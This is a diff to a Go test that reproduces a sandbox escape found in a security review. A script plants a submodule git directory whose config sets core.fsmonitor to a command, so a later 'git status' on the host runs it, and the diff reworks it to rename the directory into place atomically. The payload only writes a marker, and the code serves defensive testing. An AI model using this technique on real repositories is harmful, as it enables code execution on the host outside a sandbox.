@@ -17,12 +17,16 @@ import (
 // plantSubmodule is the security review's reproduction: a sandboxed script makes a new
 // submodule git directory .git/modules/foo whose config runs core.fsmonitor, a foo/.git file
 // naming it, a gitlink in the index and a .gitmodules, so that the user's next plain `git
-// status` in the project would run the planted config on the host.
+// status` in the project would run the planted config on the host. The git directory is built
+// beside modules/ and renamed into place whole, as an attacker who knows of the live watch
+// would (the review's script, writing into .git/modules/foo step by step, fails halfway
+// once the watch moves the directory).
 func plantSubmodule(marker string) string {
 	return `set -e
-mkdir -p .git/modules/foo/objects .git/modules/foo/refs/heads foo
-echo 'ref: refs/heads/main' > .git/modules/foo/HEAD
-printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = ../../../foo\n\tfsmonitor = "echo HOST-FSMONITOR-RAN > ` + marker + `; false"\n' > .git/modules/foo/config
+m=.git/staging; mkdir -p "$m/objects" "$m/refs/heads" foo
+echo 'ref: refs/heads/main' > "$m/HEAD"
+printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = ../../../foo\n\tfsmonitor = "echo HOST-FSMONITOR-RAN > ` + marker + `; false"\n' > "$m/config"
+mkdir -p .git/modules && mv "$m" .git/modules/foo
 echo 'gitdir: ../.git/modules/foo' > foo/.git
 git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),foo
 printf '[submodule "foo"]\n\tpath = foo\n\turl = ./foo\n' > .gitmodules
